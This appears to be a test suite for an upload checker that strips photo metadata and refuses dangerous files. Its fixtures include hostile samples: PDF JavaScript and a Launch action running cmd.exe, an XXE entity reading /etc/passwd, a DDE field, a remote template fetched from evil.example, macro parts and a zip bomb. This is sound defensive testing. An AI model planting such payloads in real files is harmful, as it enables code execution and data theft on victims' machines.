import { inputTexts } from '@langmoi/contracts/input-texts';
import type { Problem } from '@langmoi/contracts/problem';
import { workbookOf } from '@langmoi/platform/upload/workbook-file';
import { randomBytes } from 'node:crypto';
import sharp from 'sharp';
import { checkedFile, namedAs } from '../src/evidence/file/check';
import { previewOf } from '../src/evidence/file/preview';
import { aDocx, anArchive, anOdt, aPdf, aPhoto } from './files';

/** The sentence that a file is refused with; 'taken' where it is not. */
const answerTo = (content: Buffer, name = '') =>
  checkedFile(content, name).then(
    () => 'taken',
    ({ extra }: Problem) => (extra['errors'] as { detail: unknown }[])[0]?.detail,
  );
const pixelsOf = (content: Buffer) => sharp(content).autoOrient().raw().toBuffer({ resolveWithObject: true });

describe.each(['jpeg', 'png', 'webp'] as const)('a %s photo', (format) => {
  it('loses position, camera and author, and not a point of its picture', async () => {
    const sent = await aPhoto({ format });
    expect((await sharp(sent).metadata()).exif?.includes('May thu')).toBe(true);
    const { content, ...about } = await checkedFile(sent, `a.${format}`);
    expect(about).toMatchObject({
      ...{ kind: 'photo', mediaType: `image/${format}`, width: 64, height: 48, takenOn: '2020-06-28' },
      position: { latitude: 9.7085, longitude: 106.2 },
    });
    const left = await sharp(content).metadata();
    expect([left.exif, left.xmp, content.includes('Nguy'), content.includes('GPS')]).toEqual([
      ...[undefined, undefined, false, false],
    ]);
    expect((await pixelsOf(content)).data.equals((await pixelsOf(sent)).data)).toBe(true);
  });

  it.each([1, 3, 6, 8])('stays upright where it was held as %s says', async (orientation) => {
    const sent = await aPhoto({ format, orientation });
    const { content, width, height } = await checkedFile(sent, '');
    const [before, after] = [await pixelsOf(sent), await pixelsOf(content)];
    expect([width, height]).toEqual([before.info.width, before.info.height]);
    expect(after.info).toEqual(before.info);
    expect(after.data.equals(before.data)).toBe(true);
    const small = await sharp(await previewOf(content)).metadata();
    expect([small.width, small.height, small.exif]).toEqual([width, height, undefined]);
  });

  it('is refused cut short, and what hangs behind its end is dropped', async () => {
    const sent = await aPhoto({ format });
    expect(await answerTo(sent.subarray(0, -9))).toEqual(inputTexts.fileBroken);
    const { content } = await checkedFile(Buffer.concat([sent, Buffer.from('<script>alert(1)</script>')]), '');
    expect(content.includes('script')).toBe(false);
  });
});

it('takes a picture for nobody’s eyes but for what its bytes say', async () => {
  const jpeg = await aPhoto();
  expect(await answerTo(jpeg, 'ao.jpg')).toBe('taken');
  expect(await answerTo(jpeg, 'IMG_0001')).toBe('taken');
  expect(await answerTo(jpeg, 'ao.pdf')).toEqual(inputTexts.fileKindLies);
  expect(await answerTo(aPdf(), 'ao.jpg')).toEqual(inputTexts.fileKindLies);
  expect([namedAs('IMG_0001', 'image/jpeg'), namedAs('ao.jpg', 'image/jpeg')]).toEqual(['IMG_0001.jpg', 'ao.jpg']);
});

it.each([
  ['a text', Buffer.from('biên bản'), 'fileKindUnknown'],
  ['SVG', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'), 'fileKindUnknown'],
  ['a page', Buffer.from('<!doctype html><script>1</script>'), 'fileKindUnknown'],
  ['a GIF', Buffer.from('47494638396101000100', 'hex'), 'fileKindUnknown'],
  ['an archive', anArchive({ 'a.txt': 'a' }), 'fileKindUnknown'],
  ['HEIC', Buffer.from('00000018667479706865696300000000', 'hex'), 'fileHeic'],
  ['an old or a locked document', Buffer.from('d0cf11e0a1b11ae1'.padEnd(1024, '0'), 'hex'), 'fileOldKind'],
  ['more than 10 MB', Buffer.alloc(10 * 1024 * 1024 + 1), 'fileTooLarge'],
  ['a PDF with a script', aPdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }), 'pdfHasActions'],
  ['the same written otherwise', aPdf({ catalog: '/OpenAction << /S /J#61vaScript >>' }), 'pdfHasActions'],
  ['the same in a packed object', aPdf({ objects: '9 0 << /S /JavaScript >>' }), 'pdfHasActions'],
  ['a script alone in a packed object', aPdf({ objects: '9 0 << /JS (app.alert(1)) >>' }), 'pdfHasActions'],
  ['a PDF that launches', aPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), 'pdfHasActions'],
  ['a PDF with a file in it', aPdf({ catalog: '/Names << /EmbeddedFiles 9 0 R >>' }), 'pdfHasActions'],
  ['a PDF with an XFA form', aPdf({ catalog: '/AcroForm << /XFA 9 0 R >>' }), 'pdfHasActions'],
  ['an encrypted PDF', aPdf({ trailer: '/Encrypt 9 0 R' }), 'pdfLocked'],
  ['a PDF cut short', aPdf().subarray(0, 200), 'fileBroken'],
  ['a PDF that unfolds to 100 MB', aPdf({ objects: ' '.repeat(100_000_000) }), 'fileBroken'],
  ['macros', aDocx({ 'word/vbaProject.bin': 'x' }), 'fileHasMacros'],
  ['an OLE object', aDocx({ 'word/embeddings/oleObject1.bin': 'x' }), 'fileHasMacros'],
  ['ActiveX', aDocx({ 'word/activeX/activeX1.xml': '<x/>' }), 'fileHasMacros'],
  ['a DDE field', aDocx({ 'word/footer1.xml': '<w:instrText xml:space="preserve"> DDEAUTO c:\\x' }), 'fileHasMacros'],
  ['an entity', aDocx({ 'word/x.xml': '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' }), 'fileHasMacros'],
  [
    'a template from elsewhere',
    aDocx({
      'word/_rels/settings.xml.rels':
        '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
    }),
    'fileHasMacros',
  ],
  [
    'macros in a sheet within',
    aDocx({ 'word/embeddings/a.xlsx': anArchive({ 'xl/vbaProject.bin': 'x' }) }),
    'fileHasMacros',
  ],
  ['scripts of ODF', anOdt({ 'Basic/Standard/script-lb.xml': '<x/>' }), 'fileHasMacros'],
  ['a zip bomb', aDocx({ 'word/media/x.bin': Buffer.alloc(120_000_000) }), 'fileUnfolds'],
] as const)('refuses %s, with what to do', async (_, content, sentence) => {
  expect(await answerTo(content)).toEqual(inputTexts[sentence]);
});

it('takes papers of offices: links that are clicked, sheets behind charts, words about macros', async () => {
  const workbook = await workbookOf('Số liệu', [{ cells: ['Xã', '=1+1'] }]);
  const links =
    '<Relationships><Relationship Id="r" Type="http://x/hyperlink" Target="https://chinhphu.vn" TargetMode="External"/></Relationships>';
  const signed = '/AcroForm << /SigFlags 3 >> /Annots [<< /A << /S /URI /URI (https://x) >> >>]';
  const files: [string, Buffer][] = [
    ['a.docx', aDocx({ 'word/_rels/document.xml.rels': links, 'word/embeddings/a.xlsx': workbook })],
    ['a.xlsx', workbook],
    ['a.odt', anOdt()],
    ['a.pdf', aPdf({ catalog: signed })],
  ];
  for (const [name, content] of files) expect([name, await answerTo(content, name)]).toEqual([name, 'taken']);
});

it('does not take the noise of a compressed picture for a script', async () => {
  const noise = Buffer.concat([randomBytes(1_000_000), Buffer.from('/JS /XFA /3D '), randomBytes(1_000_000)]);
  expect(await answerTo(aPdf({ data: noise }))).toBe('taken');
});

it('refuses a document whose photos say where they were taken, and takes the same without', async () => {
  const [told, quiet] = [await aPhoto(), await aPhoto({ gps: false })];
  const answers = [told, quiet].flatMap((photo) => [aDocx({ 'word/media/image1.jpeg': photo }), aPdf({ data: photo })]);
  expect(await Promise.all(answers.map((one) => answerTo(one)))).toEqual([
    ...[inputTexts.fileHasPosition, inputTexts.fileHasPosition, 'taken', 'taken'],
  ]);
});
